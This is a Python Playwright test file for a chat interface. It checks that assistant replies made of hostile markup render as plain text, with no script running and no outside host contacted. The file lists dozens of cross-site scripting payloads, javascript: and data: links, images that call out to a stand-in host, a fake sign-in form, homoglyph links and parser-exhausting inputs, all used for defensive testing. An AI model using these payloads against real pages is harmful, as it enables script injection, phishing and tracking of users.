"""Replies that try to be more than text, all on one page: once as they come, once from the history. On the stub server."""

from playwright.sync_api import expect

import stub_server
from page_case import PageCase

OTHER = "https://elsewhere.invalid"
# Each would set this, or ask another host, if it were taken for what it tries to be.
RUN = "window.hostile=1"
# A name, what the model says, and words that the reader must still be able to see.
REPLIES = [
    ("script", f"<script>{RUN}</script>", "<script>"),
    ("script from elsewhere", f'<script src="{OTHER}/a.js"></script>', "<script src="),
    ("script in capitals, cut", f"<ScRiPt\n>{RUN}", "<ScRiPt"),
    ("handler on a picture", f'<img src="x" onerror="{RUN}">', "onerror="),
    ("handler without quotes", f"<img/src=x/onerror={RUN}>", "onerror="),
    ("handler on a body", f'<body onload="{RUN}">', "<body"),
    ("handler on an input", f'<input autofocus onfocus="{RUN}">', "<input"),
    ("handler on details", f'<details open ontoggle="{RUN}"><summary>a</summary></details>', "<details"),
    ("video with a handler", f'<video><source onerror="{RUN}"></video>', "<video>"),
    ("javascript link", f"[press](javascript:{RUN})", "press"),
    ("javascript link in entities", f"[press](&#106;avascript:{RUN})", "press"),
    ("javascript link with a tab", f"[press](<java\tscript:{RUN}>)", "press"),
    ("javascript link, percent", f"[press](javascript%3A{RUN})", "press"),
    ("javascript link in capitals", f"[press](JaVaScRiPt:{RUN})", "press"),
    ("javascript link, reference", f"[press][1]\n\n[1]: javascript:{RUN}", "press"),
    ("javascript autolink", f"<javascript:{RUN}>", "javascript:"),
    ("vbscript link", "[press](vbscript:msgbox)", "press"),
    ("data link", f"[press](data:text/html;base64,PHNjcmlwdD4=)", "press"),
    ("data picture", "![see](data:image/svg+xml;base64,PHN2Zz4=)", "see"),
    ("blob and file links", "[one](blob:https://a/b) [two](file:///etc/passwd) [three](filesystem:http://a/b)", "two"),
    ("link without a scheme", "[press](//elsewhere.invalid/x)", "press"),
    ("picture that phones home", f"![see]({OTHER}/seen.png?who=me)", "see"),
    ("picture by reference", f"![see][p]\n\n[p]: {OTHER}/seen.png", "see"),
    ("picture in a link", f"[![see]({OTHER}/a.png)]({OTHER}/b)", "see"),
    ("picture in HTML", f'<img src="{OTHER}/seen.png">', "<img"),
    ("svg", f'<svg onload="{RUN}"><script>{RUN}</script></svg>', "<svg"),
    ("svg with a use", f'<svg><use href="{OTHER}/a.svg#x"/></svg>', "<use"),
    ("mathml", f'<math><mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph></mtext></math>', "<math>"),
    ("style", f"<style>body{{display:none}} @import '{OTHER}/a.css';</style>", "<style>"),
    ("style attribute", f'<p style="position:fixed;inset:0;background:url({OTHER}/b)">over all</p>', "over all"),
    ("link element", f'<link rel="stylesheet" href="{OTHER}/a.css"><link rel="prefetch" href="{OTHER}/p">', "<link"),
    ("iframe", f'<iframe src="{OTHER}/f" srcdoc="<script>{RUN}</script>"></iframe>', "<iframe"),
    ("object and embed", f'<object data="{OTHER}/o"></object><embed src="{OTHER}/e">', "<object"),
    ("meta refresh", f'<meta http-equiv="refresh" content="0;url={OTHER}">', "<meta"),
    ("base", f'<base href="{OTHER}/">', "<base"),
    ("form", f'<form action="{OTHER}"><input name=password><button>Sign in again</button></form>', "<form"),
    ("dialog", '<dialog open>Your session has ended</dialog>', "<dialog"),
    ("template", f"<template><script>{RUN}</script></template>", "<template>"),
    ("closing tags", "</p></div></main></body></html>", "</main>"),
    ("comment that does not end", f"<!-- {RUN} --!><img src=x onerror={RUN}>", "onerror="),
    ("processing instruction and CDATA", f"<?php {RUN} ?> <![CDATA[<script>{RUN}</script>]]>", "CDATA"),
    ("id and name of the page", '<a id="message" name="location">x</a> <form id="composer">', "composer"),
    ("HTML in a code fence", f"```html\n<script>{RUN}</script>\n```", "<script>"),
    ("HTML as a language", f"```\"><img/src=x/onerror={RUN}>\ncode\n```", "code"),
    ("HTML in inline code", f"`<img src=x onerror={RUN}>`", "onerror="),
    ("fence that does not end", f"~~~js\n</code></pre><script>{RUN}</script>", "<script>"),
    ("HTML in a link's title", f'[press](https://example.org "\\"><img src=x onerror={RUN}>")', "press"),
    ("HTML in a table", f"| a |\n|---|\n| <img src=x onerror={RUN}> |", "onerror="),
    ("bidi overrides", "\u202egnp.exe\u202c \u2066\u2067\u2068 and on, \u202dno end", "and on"),
    ("right to left", "\u200f\u05e9\u05dc\u05d5\u05dd <b>abc</b>", "abc"),
    ("homoglyph link", "[paypal.com](https://p\u0430ypal.com/login)", "paypal.com"),
    ("link that names another", f"[https://example.org]({OTHER}/x)", "example.org"),
    ("link with a user name", "<https://example.org@elsewhere.invalid/>", "elsewhere.invalid"),
    ("huge nesting of quotes", "> " * 400 + "deep", "deep"),
    ("huge nesting of lists", "\n".join("  " * depth + "- x" for depth in range(200)) + " deep", "deep"),
    ("huge nesting of marks", "*" * 3_000 + "deep" + "*" * 3_000, "deep"),
    ("brackets that do not end", "[" * 3_000 + "deep", "deep"),
    ("pictures that do not end", "![" * 2_000 + "deep", "deep"),
    ("huge table", "|" + "a|" * 60 + "\n|" + "-|" * 60 + "\n" + ("|" + "b|" * 60 + "\n") * 30 + "| deep |", "deep"),
    ("references without number", "\n".join(f"[r{n}]: /x" for n in range(500)) + "\n\ndeep", "deep"),
    ("entities", "&lt;script&gt; &#60;script&#62; &#x0; &bogus; &#99999999;", "<script>"),
    ("null and controls", "a\u0000b\u0001\u0008\u001b[31m\ufffe\uffff deep", "deep"),
    ("combining marks", "Z" + "\u0336" * 2_000 + " deep", "deep"),
    ("one endless word", "W" * 20_000, "WWWW"),
    ("templates", "{{constructor.constructor('window.hostile=1')()}} ${window.hostile=1} <%= 1 %>", "constructor"),
]  # fmt: skip

ALLOWED = (
    "A ASIDE BLOCKQUOTE BR BUTTON CODE DEL DIV EM FIGCAPTION FIGURE H1 H2 H3 H4 H5 H6 HEADER HR LI OL P PRE S SPAN STRONG TABLE TBODY TD "
    "TH THEAD TR UL"
).split()

# What of a reply is an element, or has an address or a handler, that an answer may not bring.
FAULTS = """([answers, allowed]) => answers.flatMap((answer, number) => [...answer.querySelectorAll('*')].flatMap((node) => {
    const faults = [];
    // The books beside the text are the page's own.
    if (node.closest('.books') !== null) return faults;
    const isIcon = node.closest('svg') !== null && node.closest('button') !== null;
    if (!allowed.includes(node.tagName) && !isIcon) faults.push(`${number}: element ${node.tagName}`);
    for (const { name, value } of node.attributes) {
        if (/^on/i.test(name) || ['src', 'srcset', 'srcdoc', 'action', 'formaction', 'background', 'ping', 'name', 'id'].includes(name)
            && !isIcon) faults.push(`${number}: attribute ${name}=${value}`);
        if (name === 'style' && !/^(text-align: (left|right|center);)?$/.test(value)) faults.push(`${number}: style ${value}`);
    }
    if (node.tagName === 'A') {
        if (!['https:', 'http:', 'mailto:'].includes(node.protocol)) faults.push(`${number}: link ${node.href}`);
        if (!/noopener/.test(node.rel) || node.target !== '_blank') faults.push(`${number}: link that keeps the page ${node.href}`);
    }
    return faults;
}))"""


class HostileReplies(PageCase):
    needs_stub = True

    def setUp(self):
        super().setUp()
        self.asked, self.dialogs = [], []
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))

    def assert_nothing_happened(self):
        self.assertEqual(self.dialogs, [])
        self.assertIsNone(self.page.evaluate("() => window.hostile ?? null"))
        away = [url for url in self.asked if not url.startswith(self.url)]
        self.assertEqual(away, [], "another host was asked")
        self.assertTrue(self.page.url.startswith(self.url), self.page.url)
        self.assertEqual(self.page.locator("base, meta[http-equiv=refresh], iframe, object, embed").count(), 0)
        self.assertEqual([each for each in self.complaints if "Content Security Policy" in each or "hostile" in each], [])
        # The page is still there to be used.
        expect(self.message).to_be_visible()
        expect(self.message).to_be_editable()

    def faults(self, answers):
        return answers.evaluate_all(f"(answers, allowed) => ({FAULTS})([answers, allowed])", ALLOWED)

    def test_replies_of_the_history_are_text_whatever_they_try_to_be(self):
        self.assertGreaterEqual(len(REPLIES), 32)
        self.say("the last one")
        self.ended()
        session_id = self.page.url.rsplit("/", 1)[1]
        session = next(user["sessions"][session_id] for user in self.stub.state.users.values() if session_id in user["sessions"])
        session["messages"][:] = [message for number, (name, text, _) in enumerate(REPLIES) for message in (
            {"message_id": f"q_{number}", "role": "user", "content": name},
            {"message_id": f"r_{number}", "role": "assistant", "in_reply_to": f"q_{number}", "agent": "noah", "status": "complete",
             "content": text})]  # fmt: skip
        session["title"] = REPLIES[0][1]
        address = self.page.url
        self.page.goto("about:blank")
        self.page.goto(address)
        # The history has pages of fifty messages.
        seen = 0
        while True:
            expect(self.page.locator(".turn").last).to_be_visible()
            seen = self.page.locator(".turn").count()
            earlier = self.page.get_by_role("button", name="Earlier messages")
            if seen >= len(REPLIES) or earlier.count() == 0:
                break
            earlier.first.click()
            expect(self.page.locator(".turn").nth(seen)).to_be_attached()
        answers = self.page.locator(".turn .answer")
        expect(answers).to_have_count(len(REPLIES))
        # The Markdown is there when the table of the tables is one.
        expect(self.page.locator(".answer table").first).to_be_attached()
        self.assertEqual(self.faults(answers), [])
        texts = answers.evaluate_all("nodes => nodes.map((node) => node.textContent)")
        for (name, _, words), text in zip(REPLIES, texts, strict=True):
            with self.subTest(name):
                self.assertIn(words, text)
        # Each says where it leads, whatever its text and its title say.
        shown = answers.locator("a").evaluate_all("""nodes => nodes.map((node) => [node.host, node.textContent, getComputedStyle(node, '::after').content])""")
        for host, text, after in shown:
            self.assertIn(host, after if after not in ("none", "normal") else text)
        self.assertTrue(any(host.startswith("xn--") and host in after for host, _, after in shown), shown)
        self.assert_nothing_happened()
        # No reply is laid over others or beside the page.
        width = self.page.evaluate("() => [document.documentElement.scrollWidth, innerWidth]")
        self.assertLessEqual(width[0], width[1])

    def test_the_same_while_they_grow_piece_by_piece(self):
        text, stub_server.TEXT = stub_server.TEXT, "\n\n".join(
            text for name, text, _ in REPLIES if len(text) < 400 and "does not end" not in name and "comment" not in name)
        self.addCleanup(setattr, stub_server, "TEXT", text)
        self.stub.pace = 0.002
        self.say("please")
        self.ended()
        self.assertEqual(self.faults(self.page.locator(".reply .answer")), [])
        expect(self.reply.locator(".answer")).to_contain_text("window.hostile=1")
        self.assert_nothing_happened()
